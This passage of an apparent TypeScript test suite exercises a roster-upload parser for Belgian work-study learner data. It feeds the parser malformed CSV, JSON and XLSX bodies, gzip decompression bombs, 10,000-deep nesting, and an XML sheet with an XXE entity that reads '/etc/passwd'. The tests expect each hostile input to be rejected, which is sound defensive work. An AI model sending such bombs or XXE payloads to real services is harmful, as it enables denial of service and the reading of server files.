    wrongShape("headerTooLong", 1, 9),
  );
  for (const count of [512, 513, 600]) {
    const columns = wide(count);
    const rows = learners.map((row) => Object.fromEntries(columns.map((column) => [column, row[column] ?? ""])));
    add(
      "groot",
      `${count} columns in ${name}`,
      as(type),
      write(rows, columns),
      count <= 512 ? about(standard, ["1 onbekende-kolommen"]) : tooLarge("tooManyColumns"),
    );
  }
}
const deep = "[".repeat(10_000);
add("groot", "10,000 brackets", as("json"), deep, unreadable("tooDeep", 1, 17));
add("groot", "10,000 brackets that close", as("json"), `${deep}${"]".repeat(10_000)}`, unreadable("tooDeep", 1, 17));
add(
  "groot",
  "10,000 brackets in a cell",
  as("json"),
  asMatrix(learners).replace('"A2"', deep),
  unreadable("tooDeep", 1, asMatrix(learners).indexOf('"A2"') + 14),
);
add(
  "groot",
  "10,000 objects in a cell of objects",
  as("json"),
  asObjects(learners).replace('"A2"', '{"a":'.repeat(10_000)),
  unreadable("tooDeep", 1, asObjects(learners).indexOf('"A2"') + 1 + 5 * 14),
);
add("groot", "10,000 brackets on a line", as("lines"), `${asLines(learners)}${deep}`, unreadable("tooDeep", 4, 17));
add(
  "groot",
  "16 brackets in all",
  as("json"),
  asMatrix(learners).replace('"A2"', `${"[".repeat(13)}${"]".repeat(13)}`),
  wrongShape("notAValue", 3, "referentie"),
);

// ── Personal numbers in every place ──

const personal = "06.03.15-001.16";
/** Columns that take no such number, and what the others say of it. */
const noNumber = [
  "geboortedatum onderneming vestiging rsznummer pc categorie gewest overeenkomst statuut start einde trap",
  "trapVanaf vks urenWerkplek urenLes weekrooster leervergoeding leervergoeding1 leervergoeding2",
  "leervergoeding3 uurbedrag uren uren1 uren2 uren3 afwezig afwezig1 afwezig2 afwezig3 mogelijk mogelijk1",
  "mogelijk2 mogelijk3 kwartaalloon mu vergoed mentorGeboortedatum mentorErvaring mentorOpleidingOp",
  "uittreksel5962Op erkendOp erkendTot geregistreerdOp toestemmingOp dimonaType dimonaOp verzekerdOp",
  "medischOnderzoekOp risicoanalyseOp premiesOntvangen woonplaatsgewest werknemers werknemersVestiging kwartaal",
].flatMap((names) => names.split(" "));
const columnKinds: Readonly<Record<string, string>> = {
  ...Object.fromEntries(noNumber.map((column) => [column, "unreadable"])),
  referentie: "good",
  insz: "good",
  partnerschap: "partnerschap-onbekend",
  opleiding: "good",
  mentorInsz: "mentor-te-jong",
  rekeningnummer: "rekeningnummer-controlegetal",
};
const one: RowOutcome = { step: 1 };
/** In one learner's row, so that nothing is said of what the others lack. */
for (const [column, gives] of Object.entries(columnKinds))
  for (const [how, cell] of [
    ["with signs", personal],
    ["as a number", 6031500116],
  ] as const) {
    const row: Row = { ...learners[0], [column]: cell };
    const isNumber = typeof cell === "number";
    // As a number it has the ten digits of a firm or establishment, but not their check digits.
    const wrong = isNumber && (column === "onderneming" || column === "vestiging") ? `${column}-controlegetal` : gives;
    const found: RowOutcome =
      wrong === "unreadable"
        ? { ...one, findings: ["cel-onleesbaar"], skipped: true }
        : { ...one, findings: wrong === "good" ? [] : [wrong] };
    const isPersonal = column === "insz" || column === "mentorInsz";
    const more = isNumber && isPersonal ? ["1 aangevulde-nummers"] : [];
    add(
      "insz",
      `${column} ${how}`,
      as("json"),
      asMatrix([row], [...new Set([...headers, column])]),
      about([found], more),
      how === "with signs" && wrong !== "unreadable" ? { tables: true } : {},
    );
  }
add(
  "insz",
  "as a header",
  as("csv"),
  asCsv(
    learners.map((row) => ({ ...row, [personal]: 1 })),
    {},
    [...headers, personal],
  ),
  about(standard, ["1 onbekende-kolommen"]),
  { tables: true },
);
add(
  "insz",
  "as a header in one piece",
  as("json"),
  asMatrix(
    learners.map((row) => ({ ...row, "06031500116": 1 })),
    [...headers, "06031500116"],
  ),
  about(standard, ["1 onbekende-kolommen"]),
  { tables: true },
);
add("insz", "as every header", as("csv"), `${personal};6031500116\n1;2\n`, unusable("noColumns", "geboortedatum"));
add(
  "insz",
  "as a header too long",
  as("csv"),
  asCsv(
    learners.map((row) => ({ ...row, [personal.repeat(3_000)]: 1 })),
    {},
    [...headers, personal.repeat(3_000)],
  ),
  wrongShape("headerTooLong", 1, 9),
);
add(
  "insz",
  "as a key beside columns",
  as("json"),
  asMatrix(learners).replace(/\}$/, `,"${personal}":1}`),
  wrongShape("unknownKey", null, "••••••••116"),
);
add(
  "insz",
  "as a key with a list",
  as("json"),
  asObjects(learners).replace('"A2"', `"A2","${personal}":[1]`),
  wrongShape("notAValue", 3, "••••••••116"),
);
add(
  "insz",
  "as a key with a huge number",
  as("lines"),
  asLines(learners).replace('"A2"', '"A2","06031500116":1e999'),
  wrongShape("hugeNumber", 3, "••••••••116"),
);
add("insz", "for JSON", as("json"), "06031500116", unreadable("jsonSyntax", 1, 2));
add("insz", "for a roster", as("json"), `"${personal}"`, wrongShape("notARoster"));
add(
  "insz",
  "behind JSON",
  as("json"),
  `${asMatrix(learners)}06031500116`,
  unreadable("jsonSyntax", 1, asMatrix(learners).length + 1),
);
add(
  "insz",
  "for a row",
  as("json"),
  asMatrix(learners).replace(/\]\]\}$/, `],"${personal}"]}`),
  wrongShape("rowNotAList", 5),
);
add(
  "insz",
  "in a cell too long",
  as("csv"),
  asCsv(withReference("06031500116".repeat(3_000))),
  wrongShape("cellTooLong", 3, "referentie"),
);
add(
  "insz",
  "behind a broken quote",
  as("csv"),
  asCsv(learners).replace("A2", `"${personal}"x`),
  unreadable("brokenQuote", 3, 1),
);
add(
  "insz",
  "in a media type",
  { "content-type": `text/06031500116; x=${personal}` },
  asCsv(learners),
  unknownMedia("unknownContentType"),
);
add(
  "insz",
  "in a charset",
  { "content-type": "text/csv; charset=06031500116" },
  asCsv(learners),
  unknownMedia("unknownCharset"),
);
add(
  "insz",
  "in an encoding",
  { ...as("csv"), "content-encoding": "06031500116" },
  asCsv(learners),
  unknownMedia("unknownEncoding"),
);
const unknownQuery = bad(422, "wrong-parameter", "unknownKey", null, "••••••••116");
add("insz", "in a query", as("csv"), asCsv(learners), unknownQuery, {
  query: "?06031500116=1",
});
for (const [how, written] of [
  ["with spaces", "06 03 15 001 16"],
  ["with slashes", "06/03/15-001/16"],
  ["with letters before", "nr.06.03.15-001.16x"],
  ["twice", "06031500116 06.03.15-001.16"],
  ["with zero width", "06\u200b03\u200b15\u200b001\u200b16"],
  ["with line ends", "06.03.15\n001.16"],
  ["within a longer number", "99060315001169"],
] as const)
  add(
    "insz",
    `as a reference ${how}`,
    as("json"),
    asMatrix([{ ...learners[0], referentie: written, trap: "x" }]),
    about([{ ...one, findings: ["cel-onleesbaar"], skipped: true }]),
    { tables: true },
  );

// ── What is said of a body that it is not ──

const plainCsv = asCsv(learners);
const send = (
  name: string,
  headers: Readonly<Record<string, string>>,
  body: string | Uint8Array,
  expected: Expected,
): void => add("verpakking", name, headers, body, expected);
send("no media type", {}, bytesOf(plainCsv), unknownMedia("unknownContentType"));
for (const type of [
  "text/plain",
  "application/xml",
  "application/octet-stream",
  "multipart/form-data; boundary=x",
  "text/csv2",
  "csv",
  ";",
  "text/csv, application/json",
  "application/vnd.ms-excel",
  "application/json-seq",
])
  send(`media type ${type}`, { "content-type": type }, plainCsv, unknownMedia("unknownContentType"));
for (const type of [
  "TEXT/CSV",
  "text/csv ",
  "text/csv;charset=utf-8",
  'text/csv; header=present; charset="UTF-8"',
  "text/csv; charset=utf8",
  "text/csv; charset=us-ascii",
])
  send(`media type ${type} is read`, { "content-type": type }, plainCsv, allGood);
for (const charset of ["utf-16", "utf-16le", "iso-8859-1", "windows-1252", "utf-7", "x"])
  send(
    `charset ${charset}`,
    { "content-type": `text/csv; charset=${charset}` },
    plainCsv,
    unknownMedia("unknownCharset"),
  );
for (const encoding of ["br", "deflate", "zstd", "compress", "gzip, gzip", "gzip;q=1", "aws-chunked"])
  send(
    `encoding ${encoding}`,
    { ...as("csv"), "content-encoding": encoding },
    plainCsv,
    unknownMedia("unknownEncoding"),
  );
send("encoding identity", { ...as("csv"), "content-encoding": "identity" }, plainCsv, allGood);
for (const encoding of ["GZIP", " gzip ", "x-gzip"])
  send(
    `encoding ${JSON.stringify(encoding)}`,
    { ...as("csv"), "content-encoding": encoding },
    gzipSync(plainCsv),
    allGood,
  );
send("CSV called JSON", as("json"), plainCsv, unreadable("jsonSyntax", 1, 1));
send("CSV called NDJSON", as("lines"), plainCsv, unreadable("jsonSyntax", 1, 1));
send("JSON called CSV", as("csv"), asMatrix(learners), unreadable("brokenQuote", 1, 1));
send("NDJSON called CSV", as("csv"), asLines(learners), unreadable("brokenQuote", 1, 1));
send("NDJSON called JSON", as("json"), asLines(learners), unreadable("jsonSyntax", 2, 1));
send("objects called NDJSON", as("lines"), asObjects(learners), wrongShape("rowNotAnObject", 2));
send("HTML called CSV", as("csv"), "<html>\n<body>\nx\n</body>\n", unusable("noColumns", "geboortedatum"));
send("a zip called CSV", as("csv"), joined("PK\u0003\u0004", Uint8Array.of(0x14, 0, 0, 0, 8, 0, 0xff)), {
  ...unreadable("notUtf8", 1, 11),
  byte: 11,
});
send("a PDF called JSON", as("json"), "%PDF-1.7\n", unreadable("jsonSyntax", 1, 1));
send("gzip that does not say so", as("csv"), gzipSync(plainCsv), { ...unreadable("notUtf8", 1, 2), byte: 2 });
send("gzip that does not say so, as JSON", as("json"), gzipSync(plainCsv), { ...unreadable("notUtf8", 1, 2), byte: 2 });
send("no gzip at all", { ...as("csv"), ...zipped }, plainCsv, unreadable("brokenGzip"));
send("JSON that says it is gzip", { ...as("json"), ...zipped }, asMatrix(learners), unreadable("brokenGzip"));
send(
  "raw deflate that says it is gzip",
  { ...as("csv"), ...zipped },
  deflateRawSync(plainCsv),
  unreadable("brokenGzip"),
);
send("gzip of gzip", { ...as("csv"), ...zipped }, gzipSync(gzipSync(plainCsv)), {
  ...unreadable("notUtf8", 1, 2),
  byte: 2,
});
send("gzip of nothing", { ...as("csv"), ...zipped }, gzipSync(""), empty);
send("gzip of blank lines", { ...as("csv"), ...zipped }, gzipSync("\r\n\r\n"), empty);
send("gzip with zeros behind", { ...as("csv"), ...zipped }, joined(gzipSync(plainCsv), new Uint8Array(512)), allGood);
send(
  "gzip with letters behind",
  { ...as("csv"), ...zipped },
  joined(gzipSync(plainCsv), "garbage"),
  unreadable("brokenGzip"),
);
send(
  "gzip in two members",
  { ...as("csv"), ...zipped },
  joined(gzipSync(plainCsv.slice(0, 100)), gzipSync(plainCsv.slice(100))),
  allGood,
);
send(
  "gzip with an empty member between",
  { ...as("csv"), ...zipped },
  joined(gzipSync(plainCsv.slice(0, 100)), gzipSync(""), gzipSync(plainCsv.slice(100))),
  allGood,
);
send(
  "gzip with a broken second member",
  { ...as("csv"), ...zipped },
  joined(gzipSync(plainCsv), gzipSync(plainCsv).subarray(0, 30)),
  unreadable("brokenGzip"),
);
const flipped = (at: number): Uint8Array => {
  const packed = Buffer.from(gzipSync(plainCsv));
  packed[at < 0 ? packed.length + at : at] ^= 0x55;
  return packed;
};
for (const [what, at] of [
  ["magic", 0],
  ["method", 2],
  ["check", -8],
  ["length", -4],
] as const)
  send(`gzip with another ${what}`, { ...as("csv"), ...zipped }, flipped(at), unreadable("brokenGzip"));
send("a large length", { ...as("csv"), "content-length": "99999999999" }, plainCsv, tooLarge("tooManyBytes"));
send("no length at all", { ...as("csv"), "content-length": "x" }, plainCsv, allGood);

// ── Bombs ──

/** Gzip in members of one piece, repeated: hundreds of megabytes from a small file. */
export const bomb = (before: string, piece: string, pieceBytes: number, times: number): Uint8Array => {
  const member = gzipSync(Buffer.alloc(pieceBytes, piece), { level: 9 });
  return Buffer.concat([gzipSync(before), ...Array.from({ length: times }, () => member)]);
};
const mebibyte = 1024 * 1024;
/** Small limits, so that small bombs cross them; a line may have 16,016 characters. */
const tight = {
  env: {
    DUAAL_MAX_INFLATED_BYTES: String(mebibyte),
    DUAAL_MAX_ROWS: "5000",
    DUAAL_MAX_COLUMNS: "16",
    DUAAL_MAX_CELL_LENGTH: "1000",
  },
  heavy: true,
} as const;
/** Whichever limit is met first. */
const tooFar: Bad = { status: 413, type: "too-large", code: "inflatesTooFar|lineTooLong|tooManyColumns|tooManyRows" };
const neverCloses: Bad = { status: 400, type: "unreadable-body", code: "brokenQuote", row: 5 };
const bombs: readonly (readonly [string, keyof typeof media, string, string, Bad])[] = [
  ["spaces", "json", "", " ", tooFar],
  ["spaces before rows", "json", '{"columns":', " ", tooFar],
  ["digits", "json", "[", "1", tooFar],
  ["a text", "json", '[{"referentie":"', "x", tooFar],
  ["a key", "json", '[{"', "x", tooFar],
  ["escapes", "json", '[{"referentie":"', "\\n", tooFar],
  ["brackets", "json", "", "[", unreadable("tooDeep", 1, 17)],
  ["empty lists", "json", asMatrix([]).slice(0, -2), "[],", tooFar],
  ["empty objects", "json", asObjects(learners).slice(0, -1), ",{}", tooFar],
  ["blank cells", "json", `${asMatrix([]).slice(0, -2)}[`, "0,", tooFar],
  ["a text on a line", "lines", '{"referentie":"', "x", tooFar],
  ["line ends", "lines", "", "\n", tooFar],
  ["empty objects on lines", "lines", asLines(learners), "{}\n", tooFar],
  ["letters", "csv", "", "x", tooFar],
  ["letters below a header", "csv", asCsv(learners), "x", tooFar],
  // Of a cell that never ends the quote is likelier wrong than the cell large.
  ["letters in quotes", "csv", `${asCsv(learners)}"`, "x", neverCloses],
  ["letters in quotes in the header", "csv", '"', "x", tooFar],
  ["separators", "csv", "", ";", tooFar],
  ["separators below a header", "csv", asCsv(learners), ";", tooFar],
  ["line ends", "csv", asCsv(learners), "\n", tooFar],
  ["NULs", "csv", "", "\0", tooFar],
  ["quotes", "csv", '"', '""', tooFar],
];
for (const [what, type, before, piece, expected] of bombs)
  add(
    "bom",
    `${what} as ${type}`,
    { ...as(type), ...zipped },
    bomb(before, piece, mebibyte * 0.75, 2),
    expected,
    tight,
  );
/** The same at the usual limits but for the last: what takes long for each character there would never end. */
const wideLimits = { env: { DUAAL_MAX_INFLATED_BYTES: String(20 * mebibyte) }, heavy: true } as const;
for (const [what, type, before, piece, expected] of [
  ["letters", "csv", "", "x", tooFar],
  ["line ends", "csv", asCsv(learners), "\n", tooFar],
  ["a text", "json", '[{"referentie":"', "x", tooFar],
] as const)
  add(
    "bom",
    `500 MB of ${what} as ${type}`,
    { ...as(type), ...zipped },
    bomb(before, piece, 10 * mebibyte, 50),
    expected,
    wideLimits,
  );

// ── Limits, crossed on the way ──

const limit = (
  name: string,
  env: Readonly<Record<string, string>>,
  type: keyof typeof media,
  text: string | Uint8Array,
  expected: Expected,
  gzip = false,
): void => add("grens", name, gzip ? { ...as(type), ...zipped } : as(type), text, expected, { env });
const secondBad = learners.map((row, place) => (place === 0 ? { ...row, einde: "31/06/2026" } : row));
for (const [name, type, write] of [
  ["CSV", "csv", (rows: readonly Row[]) => asCsv(rows)],
  ["JSON", "json", (rows: readonly Row[]) => asMatrix(rows)],
  ["objects", "json", (rows: readonly Row[]) => asObjects(rows)],
  ["NDJSON", "lines", (rows: readonly Row[]) => asLines(rows)],
] as const) {
  const text = write(learners);
  const size = bytesOf(text).length;
  limit(`two rows of three in ${name}`, { DUAAL_MAX_ROWS: "2" }, type, text, {
    ...tooLarge("tooManyRows"),
    found: { rows: 2, findings: [] },
  });
  limit(`two rows of three, the first wrong, in ${name}`, { DUAAL_MAX_ROWS: "2" }, type, write(secondBad), {
    ...tooLarge("tooManyRows"),
    found: { rows: 2, findings: ["2 cel-onleesbaar"] },
  });
  limit(`three rows of three in ${name}`, { DUAAL_MAX_ROWS: "3" }, type, text, allGood);
  limit(`seven columns of eight in ${name}`, { DUAAL_MAX_COLUMNS: "7" }, type, text, tooLarge("tooManyColumns"));
  limit(`eight columns of eight in ${name}`, { DUAAL_MAX_COLUMNS: "8" }, type, text, allGood);
  limit(
    `a cell of 15 characters where 14 are read in ${name}`,
    { DUAAL_MAX_CELL_LENGTH: "14" },
    type,
    text,
    wrongShape("cellTooLong", 2, "insz"),
  );
  limit(`a cell of 15 characters where 15 are read in ${name}`, { DUAAL_MAX_CELL_LENGTH: "15" }, type, text, allGood);
  limit(`a byte too many in ${name}`, { DUAAL_MAX_BODY_BYTES: String(size - 1) }, type, text, tooLarge("tooManyBytes"));
  limit(`just as many bytes in ${name}`, { DUAAL_MAX_BODY_BYTES: String(size) }, type, text, allGood);
  limit(
    `inflates a byte too far in ${name}`,
    { DUAAL_MAX_INFLATED_BYTES: String(size - 1) },
    type,
    gzipSync(text),
    tooLarge("inflatesTooFar"),
    true,
  );
  limit(
    `inflates just as far in ${name}`,
    { DUAAL_MAX_INFLATED_BYTES: String(size) },
    type,
    gzipSync(text),
    allGood,
    true,
  );
  limit(
    `a limit that is none in ${name}`,
    { DUAAL_MAX_ROWS: "-1", DUAAL_MAX_COLUMNS: "x", DUAAL_MAX_BODY_BYTES: "" },
    type,
    text,
    allGood,
  );
}
limit("brackets just deep enough", { DUAAL_MAX_DEPTH: "3" }, "json", asMatrix(learners), allGood);
add("grens", "a slip behind a wrong row", as("csv"), `${asCsv(secondBad)}"x`, {
  ...unreadable("brokenQuote", 5, 1),
  found: { rows: 3, findings: ["2 cel-onleesbaar"] },
});
add("grens", "JSON that stops behind a wrong row", as("json"), asMatrix(secondBad).slice(0, -2), {
  ...unreadable("jsonSyntax", 1, asMatrix(secondBad).length - 1),
  found: { rows: 3, findings: ["2 cel-onleesbaar"] },
});
add("grens", "a cell too many behind a wrong row", as("csv"), asCsv(secondBad).replace(/\n$/, ";x\n"), {
  ...wrongShape("tooManyCells", 4),
  found: { findings: ["2 cel-onleesbaar"] },
});

// ── Workbooks ──

const escapeXml = (text: string): string =>
  text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`).replace(/_(?=x[0-9A-F]{4}_)/g, "_x005F_");
const letters = (place: number): string =>
  (place < 26 ? "" : letters(Math.floor(place / 26) - 1)) + String.fromCharCode(65 + (place % 26));
/** A cell of a sheet: a text in its place or among the shared texts, a number, or XML as it is given. */
const sheetCell = (cell: Cell | undefined, address: string, shared: string[] | null): string => {
  if (cell === undefined || cell === null || cell === "") return "";
  if (typeof cell === "object") return `<c r="${address}"${cell.raw}</c>`;
  if (typeof cell === "number") return `<c r="${address}"><v>${cell}</v></c>`;
  if (typeof cell === "boolean") return `<c r="${address}" t="b"><v>${cell ? 1 : 0}</v></c>`;
  if (shared === null)
    return `<c r="${address}" t="inlineStr"><is><t xml:space="preserve">${escapeXml(cell)}</t></is></c>`;
  shared.push(cell);
  return `<c r="${address}" t="s"><v>${shared.length - 1}</v></c>`;
};
const sheetRows = (rows: readonly (readonly (Cell | undefined)[])[], shared: string[] | null = null): string =>
  rows
    .map(
      (row, at) =>
        `<row r="${at + 1}">${row.map((cell, place) => sheetCell(cell, `${letters(place)}${at + 1}`, shared)).join("")}</row>`,
    )
    .join("");
const inSheet = (data: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${data}</sheetData></worksheet>`;
const relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
/** The parts of a workbook with these sheets. */
const partsOf = (sheets: readonly string[], shared: readonly string[] = []): Record<string, string> => ({
  "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  "_rels/.rels": `<Relationships><Relationship Id="rId1" Type="${relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  "xl/workbook.xml": `<workbook xmlns:r="${relations}"><sheets>${sheets
    .map((_, at) => `<sheet name="Blad${at + 1}" sheetId="${at + 1}" r:id="rId${at + 1}"/>`)
    .join("")}</sheets></workbook>`,
  "xl/_rels/workbook.xml.rels": `<Relationships>${sheets
    .map(
      (_, at) =>
        `<Relationship Id="rId${at + 1}" Type="${relations}/worksheet" Target="worksheets/sheet${at + 1}.xml"/>`,
    )
    .join("")}<Relationship Id="rIdS" Type="${relations}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
  "xl/sharedStrings.xml": `<sst>${shared.map((text) => `<si><t xml:space="preserve">${escapeXml(text)}</t></si>`).join("")}</sst>`,
  ...Object.fromEntries(sheets.map((sheet, at) => [`xl/worksheets/sheet${at + 1}.xml`, sheet])),
});
const zipOf = (parts: Readonly<Record<string, string | Uint8Array>>): Uint8Array => {
  const files: Zippable = {};
  for (const [name, part] of Object.entries(parts)) files[name] = typeof part === "string" ? strToU8(part) : part;
  return zipSync(files, { level: 6, mtime: "2026-01-01T00:00:00Z" });
};
const grid = (
  rows: readonly Row[],
  columns: readonly string[] = headers,
): readonly (readonly (Cell | undefined)[])[] => [columns, ...rows.map((row) => columns.map((column) => row[column]))];
const asBook = (rows: readonly Row[], columns: readonly string[] = headers): Uint8Array =>
  zipOf(partsOf([inSheet(sheetRows(grid(rows, columns)))]));
const bookCase = (name: string, body: Uint8Array, expected: Expected, more: Given = {}): void =>
  add("xlsx", name, as("xlsx"), body, expected, more);
const brokenBook = unreadable("brokenWorkbook");
const notABook = unreadable("notAWorkbook");

const goodBook = asBook(learners);
const sharedTexts: string[] = [];
const sharedSheet = inSheet(sheetRows(grid(learners), sharedTexts));
bookCase("a good workbook", goodBook, allGood);
add("xlsx", "a good workbook, gzip", { ...as("xlsx"), ...zipped }, gzipSync(goodBook), allGood);
bookCase("shared texts", zipOf(partsOf([sharedSheet], sharedTexts)), allGood);
bookCase(
  "days as serials",
  asBook(learners.map((row) => ({ ...row, start: 45536, einde: 46203, kwartaal: 20252 }))),
  allGood,
);
bookCase(
  "an amount as Excel keeps it",
  asBook(
    learners.map((row, place) => (place === 1 ? { ...row, leervergoeding: raw("><v>675.89999999999998</v>") } : row)),
  ),
  allGood,
);
bookCase(
  "formulas with their values",
  asBook(
    learners.map((row, place) =>
      place === 1
        ? { ...row, trap: raw("><f>1+1</f><v>2</v>"), referentie: raw(' t="str"><f>"A"&amp;2</f><v>A2</v>') }
        : row,
    ),
  ),
  allGood,
);
bookCase("blank rows behind", zipOf(partsOf([inSheet(sheetRows([...grid(learners), [], [""], []]))])), allGood);
bookCase("a blank sheet before it", zipOf(partsOf([inSheet(""), inSheet(sheetRows(grid(learners)))])), allGood);
bookCase(
  "a sheet of notes before it",
  zipOf(partsOf([inSheet(sheetRows([["Lees mij"], ["x", 1]])), inSheet(sheetRows(grid(learners)))])),
  allGood,
);
bookCase(
  "a row that cannot be read among blank rows",
  zipOf(
    partsOf([
      inSheet(
        sheetRows([
          grid(learners)[0],
          [],
          ...grid([{ ...learners[1], einde: "31/06/2026" }]).slice(1),
          [],
          ...grid([learners[2]]).slice(1),
        ]),
      ),
    ]),
  ),
  about([broken, { step: 3 }], [], [3, 5]),
);
for (const [what, cell, gives] of [
  ["#N/A", raw(' t="e"><v>#N/A</v>'), "unreadable"],
  ["NaN", raw("><v>NaN</v>"), "unreadable"],
  ["1E999", raw("><v>1E999</v>"), "unreadable"],
  ["-1", -1, "unreadable"],
  ["true", true, "unreadable"],
  ["60", 60, "unreadable"],
  ["2958466", 2958466, "unreadable"],
  ["0", 0, finds("einde-ontbreekt")],
  ["-0", raw("><v>-0</v>"), finds("einde-ontbreekt")],
  ["nothing", null, finds("einde-ontbreekt")],
  ["an empty value", raw("><v></v>"), finds("einde-ontbreekt")],
  ["spaces", "   ", finds("einde-ontbreekt")],
  ["1", 1, beforeStart],
  ["109574", 109574, finds("duur-te-lang")],
  ["46203.5", 46203.5, "good"],
  ["text 30/06/2026", "30/06/2026", "good"],
  ["text 46203", "46203", "unreadable"],
  ["a day of the strict dialect", raw(' t="d"><v>2026-06-30</v>'), "good"],
  ["a moment of the strict dialect that is none", raw(' t="d"><v>2026-06-31T00:00:00</v>'), "unreadable"],
] as const)
  bookCase(
    `einde ${what}`,
    asBook(learners.map((row, place) => (place === 1 ? { ...row, einde: cell } : row))),
    expectedOf(gives, "einde", "", cell),
  );
for (const [what, text] of [...formulas, ...texts.slice(0, 8), ["XML marks", "<c>&amp;_x000D_</c>"]] as const) {
  const rows = withReference(text).map((row, place) => (place === 1 ? { ...row, trap: "x" } : row));
  bookCase(`${what} as a reference`, asBook(rows), {
    ...about([{ step: 1 }, twoBad, { step: 3 }]),
    references: { 3: text },
  });
}
bookCase(
  "a personal number as a reference",
  asBook([{ ...learners[0], referentie: 6031500116, trap: "x" }]),
  about([{ ...one, skipped: true, findings: ["cel-onleesbaar"] }]),
  { tables: true },
);

const { length: bookLength } = goodBook;
for (const at of [
  2,
  4,
  30,
  100,
  bookLength >> 2,
  bookLength >> 1,
  bookLength - 300,
  bookLength - 100,
  bookLength - 23,
  bookLength - 22,
  bookLength - 2,
  bookLength - 1,
])
  bookCase(
    `a workbook after ${at < bookLength >> 1 ? at : `all but ${bookLength - at}`} bytes`,
    goodBook.subarray(0, at),
    brokenBook,
  );
bookCase("a workbook after 1 byte", goodBook.subarray(0, 1), notABook);
bookCase("a workbook after 0 bytes", new Uint8Array(), empty);
add("xlsx", "a workbook cut off, gzip", { ...as("xlsx"), ...zipped }, gzipSync(goodBook.subarray(0, 500)), brokenBook);
add(
  "xlsx",
  "gzip of a workbook, cut off",
  { ...as("xlsx"), ...zipped },
  gzipSync(goodBook).subarray(0, 500),
  unreadable("brokenGzip"),
);
bookCase("CSV", bytesOf(plainCsv), notABook);
bookCase("JSON", bytesOf(asMatrix(learners)), notABook);
bookCase("HTML", bytesOf("<html><table><tr><td>x</td></tr></table></html>"), notABook);
bookCase(
  "an old workbook",
  joined(Buffer.from("d0cf11e0a1b11ae1", "hex"), new Uint8Array(2_000)),
  unreadable("otherExcelFormat"),
);
bookCase(
  "a workbook with a password",
  joined(Buffer.from("d0cf11e0a1b11ae1", "hex"), new Uint8Array(1_000), Buffer.from("EncryptedPackage", "utf16le")),
  unreadable("encryptedWorkbook"),
);
bookCase("a zip of something else", zipOf({ "a.csv": plainCsv }), notABook);
bookCase("an empty zip", zipOf({}), notABook);
bookCase(
  "a binary workbook",
  zipOf({ "_rels/.rels": partsOf([])["_rels/.rels"].replace("workbook.xml", "workbook.bin"), "xl/workbook.bin": "x" }),
  unreadable("otherExcelFormat"),
);
const goodParts = partsOf([sharedSheet], sharedTexts);
for (const name of ["xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml"])
  bookCase(
    `no ${name}`,
    zipOf(Object.fromEntries(Object.entries(goodParts).filter(([part]) => part !== name))),
    brokenBook,
  );
for (const [what, change] of [
  ["XML that stops", (xml: string) => xml.slice(0, -30)],
  ["no XML", () => "x"],
  ["UTF-16", (xml: string) => Buffer.from(`\uFEFF${xml}`, "utf16le")],
  [
    "a broken character",
    (xml: string) => Buffer.concat([Buffer.from(xml.slice(0, 200)), Buffer.of(0xff), Buffer.from(xml.slice(200))]),
  ],
  [
    "entities of its own",
    (xml: string) => xml.replace("?>", '?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'),
  ],
  [
    "a file from elsewhere",
    (xml: string) => xml.replace("?>", '?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
  ],
  ["an unknown entity", (xml: string) => xml.replace("<v>0</v>", "<v>&a;</v>")],
  ["a shared text that is none", (xml: string) => xml.replace("<v>0</v>", "<v>99999</v>")],
  ["rows that go back", (xml: string) => xml.replace('<row r="3">', '<row r="1">')],
  ["a row of no number", (xml: string) => xml.replace('<row r="3">', '<row r="x">')],
  ["a cell of no address", (xml: string) => xml.replace('r="A3"', 'r="3"')],
  ["10,000 elements deep", (xml: string) => xml.replace("<sheetData>", `${"<a>".repeat(10_000)}<sheetData>`)],
] as const)
  bookCase(
    `a sheet with ${what}`,
    zipOf({ ...goodParts, "xl/worksheets/sheet1.xml": change(sharedSheet) }),
    brokenBook,
  );
const spoiled = (more: number): Uint8Array => {
  const bytes = Buffer.from(goodBook);
  bytes[bytes.indexOf("xl/worksheets/sheet1.xml") + "xl/worksheets/sheet1.xml".length + more] ^= 0x55;
  return bytes;
};
for (const more of [0, 1, 40, 150]) bookCase(`byte ${more} of a sheet is another`, spoiled(more), brokenBook);
bookCase("no sheets", zipOf(partsOf([])), unusable("noColumns", "geboortedatum"));
bookCase(
  "blank sheets",
  zipOf(partsOf([inSheet(""), inSheet(sheetRows([[], [null]]))])),
  unusable("noColumns", "geboortedatum"),
);
bookCase(
  "no header",
  zipOf(partsOf([inSheet(sheetRows(grid(learners).slice(1)))])),
  unusable("noColumns", "geboortedatum"),
);
bookCase(
  "no header, all of it text",
  zipOf(partsOf([inSheet(sheetRows([["A1", "08.01.15-990.25", "OAO", "1/09/2024"]]))])),
  unusable("noColumns", "geboortedatum"),
);
bookCase(
  "a year for a header",
  zipOf(partsOf([inSheet(sheetRows(grid(learners).map((row, at) => [...row, at === 0 ? 2025 : "x"])))])),
  about(standard, ["1 onbekende-kolommen"]),
);
bookCase("a header only", zipOf(partsOf([inSheet(sheetRows([headers]))])), about([]));
bookCase(
  "no start",
  asBook(
    learners,
    headers.filter((name) => name !== "start"),
  ),
  unusable("missingColumns", "start"),
);
bookCase("a column twice", asBook(learners, [...headers, "start"]), unusable("doubleColumns", "start"));
bookCase(
  "an unknown column",
  asBook(
    learners.map((row) => ({ ...row, kleur: "groen" })),
    [...headers, "kleur"],
  ),
  about(standard, ["1 onbekende-kolommen"]),
);
bookCase(
  "a cell of 32,767 characters",
  asBook(withReference("x".repeat(32_767))),
  about([{ step: 1 }, broken, { step: 3 }]),
);
bookCase(
  "a cell of 32,768 characters",
  asBook(withReference("x".repeat(32_768))),
  wrongShape("cellTooLong", 3, "referentie"),
);
for (const count of [512, 513, 600]) {
  const columns = wide(count);
  const rows = learners.map((row) => Object.fromEntries(columns.map((column) => [column, row[column] ?? ""])));
  bookCase(
    `${count} columns`,
    asBook(rows, columns),
